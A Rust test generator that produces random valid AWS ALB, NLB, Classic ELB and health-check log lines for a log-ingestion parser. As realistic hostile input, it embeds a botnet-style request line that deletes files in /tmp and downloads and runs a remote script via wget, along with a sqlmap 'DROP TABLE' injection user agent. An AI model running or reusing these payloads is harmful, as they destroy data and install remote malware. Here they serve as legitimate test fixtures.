//! Valid lines of every format and layout (`alb-format.md`): ALB access logs from the 18 fields
//! of 2016 to the 34 of 2026 and the placeholders after them, ALB connection logs (11 to 15
//! fields), NLB 1.0 and 2.0, Classic ELB with and without the fields after the request, ALB
//! health check logs (8 to 10 fields, Lambda and IPv6 targets, timeouts without a code). Values
//! take the shapes real logs show: IPv6 without brackets, `-` and `-1`, `\xNN` and `\"` inside
//! quotes, malformed request lines, lists, old unquoted forms.

use albingest::format::LogFormat;
use albingest::timestamp::format_epoch_seconds;
use fastrand::Rng;

/// A valid line and what its document must say.
#[derive(Debug, Clone)]
pub struct ValidLine {
    pub format: LogFormat,
    pub text: String,
    /// `@timestamp` of the line's document.
    pub timestamp: String,
    /// `aws.elb.name` of the document, when the line names its load balancer.
    pub elb: Option<String>,
    /// `aws.elb.unparsed_trailing`: the fields after the last known one, unquoted.
    pub trailing: Vec<String>,
}

pub fn any_format(rng: &mut Rng) -> LogFormat {
    LogFormat::ALL[rng.usize(..LogFormat::ALL.len())]
}

pub fn line(rng: &mut Rng, format: LogFormat) -> ValidLine {
    match format {
        LogFormat::Alb => alb(rng),
        LogFormat::AlbConnection => connection(rng),
        LogFormat::Nlb => nlb(rng),
        LogFormat::Elb => classic(rng),
        LogFormat::AlbHealthCheck => health_check(rng),
    }
}

/// ALB access log, one of the layouts of section 5, sometimes with what follows field 34.
fn alb(rng: &mut Rng) -> ValidLine {
    let seconds = epoch_seconds(rng);
    let time = format!("{}.{:06}Z", iso(seconds), rng.u32(..1_000_000));
    let created = format!(
        "{}.{:03}000Z",
        iso(seconds - rng.i64(0..3)),
        rng.u32(..1000)
    );
    let elb = format!("app/{}/{}", pick(rng, LB_NAMES), hex(rng, 16));
    let tls = rng.bool();
    let target = if rng.u8(..5) == 0 {
        "-".to_string()
    } else {
        address(rng)
    };
    let status = pick(rng, STATUS_CODES);
    let target_status = if target == "-" && rng.bool() {
        "-"
    } else {
        pick(rng, STATUS_CODES)
    };
    let target_list = match (target.as_str(), rng.u8(..4)) {
        ("-", _) => "-".to_string(),
        (t, 0) => format!("{t} {}", address(rng)),
        (t, _) => t.to_string(),
    };
    let status_list = match (target_status, rng.u8(..4)) {
        ("-", _) => "-".to_string(),
        (s, 0) => format!("{s} {}", pick(rng, STATUS_CODES)),
        (s, _) => s.to_string(),
    };
    let (cipher, protocol, domain, cert) = if tls {
        (
            pick(rng, CIPHERS).to_string(),
            pick(rng, &["TLSv1", "TLSv1.1", "TLSv1.2", "TLSv1.3"]).to_string(),
            pick(rng, HOSTS).to_string(),
            if rng.bool() {
                "session-reused".to_string()
            } else {
                format!(
                    "arn:aws:acm:us-east-1:123456789012:certificate/{}",
                    hex(rng, 8)
                )
            },
        )
    } else {
        ("-".into(), "-".into(), "-".into(), "-".into())
    };
    let fields = vec![
        pick(rng, &["http", "https", "h2", "grpcs", "ws", "wss", "spdy"]).to_string(),
        time.clone(),
        elb.clone(),
        address(rng),
        target,
        seconds_or_dash(rng, 3),
        seconds_or_dash(rng, 3),
        seconds_or_dash(rng, 3),
        status.to_string(),
        target_status.to_string(),
        rng.u64(..10_000_000_000).to_string(),
        rng.u64(..10_000_000_000).to_string(),
        quote(&request(rng)),
        quote(&user_agent(rng)),
        cipher,
        protocol,
        dash_or(rng, |rng| {
            format!(
                "arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/{}/{}",
                pick(rng, LB_NAMES),
                hex(rng, 16)
            )
        }),
        quote(&dash_or(rng, |rng| {
            format!("Root=1-{}-{}", hex(rng, 8), hex(rng, 24))
        })),
        // 2016-2018 documentation examples print these two without quotes.
        quoted_or_bare(&domain, rng),
        quoted_or_bare(&cert, rng),
        pick(rng, &["0", "1", "2", "50000", "-1", "-", "\"-\""]).to_string(),
        match rng.u8(..8) {
            0 => pick(rng, &["-", "\"-\""]).to_string(),
            _ => created,
        },
        quoted_or_bare(
            pick(
                rng,
                &[
                    "forward",
                    "waf,forward",
                    "redirect",
                    "fixed-response",
                    "-",
                    "",
                ],
            ),
            rng,
        ),
        quoted_or_bare(
            &dash_or(rng, |rng| {
                format!("https://{}:443/{}", pick(rng, HOSTS), path(rng))
            }),
            rng,
        ),
        quoted_or_bare(pick(rng, ERROR_REASONS), rng),
        quoted_or_bare(&target_list, rng),
        quoted_or_bare(&status_list, rng),
        quoted_or_bare(pick(rng, &["-", "Acceptable", "Ambiguous", "Severe"]), rng),
        quoted_or_bare(
            pick(rng, &["-", "SpaceInUri", "BadHeader", "NonCompliantHeader"]),
            rng,
        ),
        match rng.u8(..6) {
            0 => "-".to_string(),
            1 => format!("\"TID_{}\"", hex(rng, 32)),
            _ => format!("TID_{}", hex(rng, 32)),
        },
        quoted_or_bare(&dash_or(rng, |rng| pick(rng, HOSTS).to_string()), rng),
        quoted_or_bare(&dash_or(rng, |rng| format!("/{}", path(rng))), rng),
        quoted_or_bare(&dash_or(rng, |rng| quoted_text(rng, 3)), rng),
        match rng.u8(..6) {
            0 => "-".to_string(),
            1 => "\"-\"".to_string(),
            _ => ip(rng),
        },
    ];
    let layout = pick(rng, &["18", "20", "23", "24", "25", "29", "30", "33", "34"]);
    let mut fields = fields;
    fields.truncate(layout.parse().expect("layout"));
    if fields.len() == 34 {
        // 2026 lines end with two `"-"` placeholders; AWS may add more.
        match rng.u8(..4) {
            0 => {}
            1 => fields.extend(["\"-\"".to_string(), "\"-\"".to_string()]),
            _ => (0..rng.usize(1..4)).for_each(|_| fields.push(trailing_token(rng))),
        }
    }
    ValidLine {
        format: LogFormat::Alb,
        text: fields.join(" "),
        timestamp: time,
        elb: Some(elb),
        trailing: unparsed_trailing(&fields, 34),
    }
}

/// ALB connection log: 11 fields (older files), up to 15, sometimes a trailing `"-"`.
fn connection(rng: &mut Rng) -> ValidLine {
    let seconds = epoch_seconds(rng);
    let time = format!("{}.{:06}Z", iso(seconds), rng.u32(..1_000_000));
    let tls = rng.u8(..4) != 0;
    let elb = format!("app/{}/{}", pick(rng, LB_NAMES), hex(rng, 16));
    let mtls = tls && rng.u8(..4) == 0;
    let mut fields = vec![
        time.clone(),
        ip(rng),
        rng.u16(..).to_string(),
        pick(rng, &["443", "80", "8443"]).to_string(),
    ];
    if tls {
        fields.push(pick(rng, &["TLSv1.2", "TLSv1.3"]).into());
        fields.push(pick(rng, CIPHERS).into());
        fields.push(match rng.u8(..4) {
            0 => "-".into(),
            _ => format!("0.{:03}", rng.u32(..1000)),
        });
    } else {
        fields.extend(["-".to_string(), "-".to_string(), "-".to_string()]);
    }
    if mtls {
        let not_before = iso(epoch_seconds(rng));
        let not_after = iso(epoch_seconds(rng));
        fields.push(quote(&format!(
            "CN={},O={}",
            pick(rng, HOSTS),
            quoted_text(rng, 2)
        )));
        fields.push(format!("NotBefore={not_before}Z;NotAfter={not_after}Z"));
        fields.push(hex(rng, 16).to_uppercase());
        fields.push(
            pick(
                rng,
                &[
                    "Success",
                    "Failed:ClientCertUntrusted",
                    "Failed:ClientCertExpired",
                ],
            )
            .into(),
        );
    } else {
        fields.extend(["\"-\"".into(), "-".into(), "-".into()]);
        fields.push(if tls { "Success" } else { "-" }.into());
    }
    fields.push(quoted_or_bare(&format!("TID_{}", hex(rng, 32)), rng));
    fields.push(quoted_or_bare(
        pick(rng, &["secp256r1", "X25519MLKEM768", "x25519", "-"]),
        rng,
    ));
    fields.push(quoted_or_bare(&elb, rng));
    fields.push(match rng.u8(..6) {
        0 => "-".into(),
        1 => "\"-\"".into(),
        _ => ip(rng),
    });
    if rng.u8(..4) == 0 {
        (0..rng.usize(1..3)).for_each(|_| fields.push(trailing_token(rng)));
    }
    let layout = rng.usize(11..=fields.len());
    fields.truncate(layout);
    ValidLine {
        format: LogFormat::AlbConnection,
        text: fields.join(" "),
        timestamp: time,
        elb: (layout >= 14).then_some(elb),
        trailing: unparsed_trailing(&fields, 15),
    }
}

/// NLB access log: version 1.0 (18 fields) or 2.0 (ALPN fields, later the creation time).
fn nlb(rng: &mut Rng) -> ValidLine {
    let time = iso(epoch_seconds(rng));
    let elb = format!("net/{}/{}", pick(rng, LB_NAMES), hex(rng, 16));
    let version = pick(rng, &["1.0", "2.0"]);
    let tls_ok = rng.u8(..5) != 0;
    let mut fields = vec![
        "tls".to_string(),
        version.to_string(),
        time.clone(),
        elb.clone(),
        hex(rng, 16),
        address(rng),
        address(rng),
        rng.u32(..100_000).to_string(),
        if tls_ok {
            rng.u32(..1000).to_string()
        } else {
            "-".into()
        },
        rng.u64(..1_000_000_000).to_string(),
        rng.u64(..1_000_000_000).to_string(),
        pick(rng, &["-", "0A", "28"]).to_string(),
        dash_or(rng, |rng| {
            format!(
                "arn:aws:acm:us-east-2:123456789012:certificate/{}",
                hex(rng, 8)
            )
        }),
        dash_or(rng, |rng| hex(rng, 16).to_uppercase()),
        pick(
            rng,
            &["-", "ECDHE-RSA-AES128-SHA", "TLS_AES_128_GCM_SHA256"],
        )
        .to_string(),
        pick(rng, &["-", "tlsv12", "tlsv13", "tlsv1"]).to_string(),
        pick(rng, &["-", "secp256r1", "x25519"]).to_string(),
        // URL-encoded, sometimes into bytes that are not UTF-8.
        pick(
            rng,
            &[
                "-",
                "api.example.com",
                "caf%C3%A9.example.com%2E",
                "bad%FF%C3.example.com",
                "100%",
            ],
        )
        .to_string(),
    ];
    if version == "2.0" && rng.u8(..4) != 0 {
        fields.push(pick(rng, &["-", "h2", "http/1.1"]).into());
        fields.push(pick(rng, &["-", "h2", "http/1.1"]).into());
        fields.push(pick(rng, &["-", "\"h2\",\"http/1.1\"", "\"http/1.1\""]).into());
        match rng.u8(..4) {
            0 => {}
            1 => fields.push(pick(rng, &["-", "\"-\""]).into()),
            _ => {
                fields.push(iso(epoch_seconds(rng)));
                if rng.u8(..3) == 0 {
                    (0..rng.usize(1..3)).for_each(|_| fields.push(trailing_token(rng)));
                }
            }
        }
    }
    ValidLine {
        format: LogFormat::Nlb,
        text: fields.join(" "),
        timestamp: format!("{time}Z"),
        elb: Some(elb),
        trailing: unparsed_trailing(&fields, 22),
    }
}

/// Classic ELB: 12 fields before 2014, 15 after, times in microseconds, TCP listeners' `"- - - "`.
fn classic(rng: &mut Rng) -> ValidLine {
    let time = format!("{}.{:06}Z", iso(epoch_seconds(rng)), rng.u32(..1_000_000));
    let elb = pick(rng, LB_NAMES).to_string();
    let tcp = rng.u8(..5) == 0;
    let mut fields = vec![
        time.clone(),
        elb.clone(),
        address(rng),
        if rng.u8(..6) == 0 {
            "-".into()
        } else {
            address(rng)
        },
        seconds_or_dash(rng, 6),
        seconds_or_dash(rng, 6),
        seconds_or_dash(rng, 6),
        if tcp { "-" } else { pick(rng, STATUS_CODES) }.into(),
        if tcp { "-" } else { pick(rng, STATUS_CODES) }.into(),
        rng.u32(..1_000_000).to_string(),
        rng.u32(..1_000_000).to_string(),
        if tcp {
            "\"- - - \"".into()
        } else {
            quote(&request(rng))
        },
    ];
    if rng.u8(..5) != 0 {
        fields.push(quote(&user_agent(rng)));
        fields.push(
            pick(
                rng,
                &["-", "DHE-RSA-AES128-SHA", "ECDHE-ECDSA-AES128-GCM-SHA256"],
            )
            .into(),
        );
        fields.push(pick(rng, &["-", "TLSv1", "TLSv1.2"]).into());
        if rng.u8(..6) == 0 {
            (0..rng.usize(1..3)).for_each(|_| fields.push(trailing_token(rng)));
        }
    }
    ValidLine {
        format: LogFormat::Elb,
        text: fields.join(" "),
        timestamp: time,
        elb: Some(elb),
        trailing: unparsed_trailing(&fields, 15),
    }
}

/// ALB health check log: AWS's 8 fields, then elb and the node IP, then fields not yet known.
fn health_check(rng: &mut Rng) -> ValidLine {
    let time = format!("{}.{:06}Z", iso(epoch_seconds(rng)), rng.u32(..1_000_000));
    let elb = format!("app/{}/{}", pick(rng, LB_NAMES), hex(rng, 16));
    let kind = pick(rng, &["http", "https", "h2", "grpc", "lambda"]);
    let target = if kind == "lambda" {
        format!(
            "arn:aws:lambda:us-east-1:123456789012:function:{}",
            pick(rng, LB_NAMES)
        )
    } else {
        address(rng)
    };
    let pass = rng.bool();
    let (code, reason) = if pass {
        (pick(rng, &["200", "204", "0"]), "-")
    } else {
        match rng.u8(..4) {
            0 => (
                "-",
                pick(rng, &["TimedOut", "ConnectionReset", "RequestTimedOut"]),
            ),
            1 => (pick(rng, &["404", "500"]), "ResponseCodeMismatch"),
            2 => (
                "12",
                pick(rng, &["GRPCUnexpectedStatus", "GRPCStatusHeaderEmpty"]),
            ),
            _ => (
                pick(rng, &["502", "503"]),
                pick(rng, &["TargetError", "InternalError"]),
            ),
        }
    };
    let mut fields = vec![
        kind.to_string(),
        time.clone(),
        format!("{}.{:09}", rng.u8(..6), rng.u32(..1_000_000_000)),
        target,
        pick(rng, &["HCLogsTestIPs", "k8s-tileserv-8b701414d0", "tg-1"]).to_string(),
        if pass { "PASS" } else { "FAIL" }.to_string(),
        code.to_string(),
        reason.to_string(),
        quoted_or_bare(&elb, rng),
        match rng.u8(..6) {
            0 => "-".into(),
            1 => "\"-\"".into(),
            _ => ip(rng),
        },
    ];
    if rng.u8(..4) == 0 {
        (0..rng.usize(1..3)).for_each(|_| fields.push(trailing_token(rng)));
    }
    let layout = rng.usize(8..=fields.len());
    fields.truncate(layout);
    ValidLine {
        format: LogFormat::AlbHealthCheck,
        text: fields.join(" "),
        timestamp: time,
        elb: (layout >= 9).then_some(elb),
        trailing: unparsed_trailing(&fields, 10),
    }
}

const LB_NAMES: &[&str] = &[
    "my-lb",
    "k8s-tileserver-617dd1df30",
    "awseb-AWSEB-1MVD8OW91UMOH",
    "prod",
];
const HOSTS: &[&str] = &[
    "www.example.com",
    "api.example.com",
    "10.0.0.1",
    "*",
    " some-subdomain.domain.com",
    "tile-staging.terrastride.com",
];
const STATUS_CODES: &[&str] = &[
    "200", "200", "301", "304", "400", "404", "460", "463", "500", "502", "561", "000",
];
const CIPHERS: &[&str] = &[
    "ECDHE-RSA-AES128-GCM-SHA256",
    "TLS_AES_128_GCM_SHA256",
    "ECDHE-ECDSA-CHACHA20-POLY1305",
];
const ERROR_REASONS: &[&str] = &[
    "-",
    "LambdaInvalidResponse",
    "AuthInvalidCookie",
    "WAFConnectionTimeout",
    "",
];
const USER_AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "curl/8.5.0",
    "Dart/3.11 (dart:io)",
    "-",
    "",
    r#"Mozilla/5.0 (compatible; \"EvilScanner\"/1.0)"#,
    r"\xEC\x97\x90\xEB\x8B\xA4",
    r"sqlmap/1.8 \x22; DROP TABLE users; --",
];

/// Seconds between 2014 and 2027.
fn epoch_seconds(rng: &mut Rng) -> i64 {
    rng.i64(1_388_534_400..1_798_761_600)
}

/// `YYYY-MM-DDTHH:MM:SS` (no fraction, no zone: NLB's form; the others add them).
fn iso(seconds: i64) -> String {
    let mut text = format_epoch_seconds(seconds);
    text.pop();
    text
}

pub fn pick<'a>(rng: &mut Rng, items: &[&'a str]) -> &'a str {
    items[rng.usize(..items.len())]
}

pub fn hex(rng: &mut Rng, n: usize) -> String {
    (0..n)
        .map(|_| char::from_digit(rng.u32(..16), 16).expect("hex digit"))
        .collect()
}

fn ipv4(rng: &mut Rng) -> String {
    let [a, b, c, d] = rng.u32(..).to_be_bytes();
    format!("{a}.{b}.{c}.{d}")
}

/// Without brackets, full or compressed, as ALB writes it.
fn ipv6(rng: &mut Rng) -> String {
    let groups: Vec<String> = (0..8).map(|_| format!("{:x}", rng.u16(..))).collect();
    match rng.u8(..3) {
        0 => groups.join(":"),
        1 => format!("{}::{}", groups[0], groups[7]),
        _ => format!("{}:{}::{}:{}", groups[0], groups[1], groups[6], groups[7]),
    }
}

fn ip(rng: &mut Rng) -> String {
    if rng.u8(..5) == 0 {
        ipv6(rng)
    } else {
        ipv4(rng)
    }
}

/// `ip:port`.
fn address(rng: &mut Rng) -> String {
    format!("{}:{}", ip(rng), rng.u16(..))
}

/// Seconds with `decimals` digits, or the `-1` of "not measured".
fn seconds_or_dash(rng: &mut Rng, decimals: usize) -> String {
    if rng.u8(..6) == 0 {
        "-1".into()
    } else {
        format!("{:.decimals$}", rng.f64() * 100.0)
    }
}

fn dash_or(rng: &mut Rng, value: impl FnOnce(&mut Rng) -> String) -> String {
    if rng.u8(..4) == 0 {
        "-".into()
    } else {
        value(rng)
    }
}

fn quote(text: &str) -> String {
    format!("\"{text}\"")
}

/// A later field: quoted, or bare as old examples print them when the value allows it.
fn quoted_or_bare(value: &str, rng: &mut Rng) -> String {
    let bare_ok = !value.is_empty() && !value.contains([' ', '"']);
    if bare_ok && rng.u8(..8) == 0 {
        value.to_string()
    } else {
        quote(value)
    }
}

/// The fields after the first `known`, as `aws.elb.unparsed_trailing` keeps them.
fn unparsed_trailing(fields: &[String], known: usize) -> Vec<String> {
    fields
        .iter()
        .skip(known)
        .map(|f| {
            let unquoted = f.strip_prefix('"').and_then(|f| f.strip_suffix('"'));
            unquoted.unwrap_or(f).to_string()
        })
        .collect()
}

/// A field after the last known one: kept raw whatever it holds.
fn trailing_token(rng: &mut Rng) -> String {
    match rng.u8(..4) {
        0 => "\"-\"".into(),
        1 => "-".into(),
        2 => quote(&quoted_text(rng, 4)),
        _ => {
            let len = rng.usize(1..12);
            hex(rng, len)
        }
    }
}

/// The inside of a quoted field: words, spaces, ALB's `\xNN` escapes, `\"`, UTF-8.
pub fn quoted_text(rng: &mut Rng, max_pieces: usize) -> String {
    const PIECES: &[&str] = &[
        "Mozilla/5.0",
        "curl/8.5.0",
        " ",
        " ",
        "(X11; Linux x86_64)",
        r"\x22",
        r"\x5C",
        r"\xEC\x97\x90",
        r#"\""#,
        r"\\",
        "é",
        "日本語",
        "🚀",
        "()[]{};:,./?=&%+*!@#$^|~`'<>",
        "-",
        "\t",
    ];
    (0..rng.usize(..=max_pieces))
        .map(|_| pick(rng, PIECES))
        .collect()
}

fn user_agent(rng: &mut Rng) -> String {
    if rng.u8(..4) == 0 {
        quoted_text(rng, 8)
    } else {
        pick(rng, USER_AGENTS).to_string()
    }
}

fn path(rng: &mut Rng) -> String {
    const SEGMENTS: &[&str] = &[
        "api",
        "v1",
        "items",
        "index.html",
        "a%20b",
        r"\x22x",
        "caf%C3%A9",
        "sra_{BA195980-CD49-458b-9E23-C84EE0ADCD75}",
    ];
    let mut p: Vec<&str> = (0..rng.usize(..4)).map(|_| pick(rng, SEGMENTS)).collect();
    if rng.bool() {
        p.push("?q=1&utm_source=x+y");
    }
    p.join("/")
}

/// The request field (section 6): the usual form and the malformed ones ALB logs.
fn request(rng: &mut Rng) -> String {
    let host = pick(rng, &["www.example.com", "10.0.0.1", "[2001:db8::1]", "h"]);
    match rng.u8(..12) {
        0 => pick(
            rng,
            &[
                "- - -",
                "- http://h.example.com:80- -",
                "- http://h:8080- ",
                "- http://internal-service-alb.example.com:80-/ ",
            ],
        )
        .into(),
        1 => format!("GET http://{host}:80/ HTTP/1.0 "),
        2 => format!("GET http://{host}:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1"),
        3 => "GET https://example.com HTTP/2.0".into(),
        4 => format!(
            "{} https://{host}:443/{} HTTP/1.1",
            pick(rng, &["SSTP_DUPLEX_POST", "--location", "ZSDLKFJ2"]),
            path(rng)
        ),
        _ => format!(
            "{} {}://{host}:{}/{} {}",
            pick(rng, &["GET", "POST", "HEAD", "PUT", "DELETE", "OPTIONS"]),
            pick(rng, &["http", "https"]),
            pick(rng, &["80", "443", "8080"]),
            path(rng),
            pick(rng, &["HTTP/1.1", "HTTP/2.0", "HTTP/1.0"])
        ),
    }
}
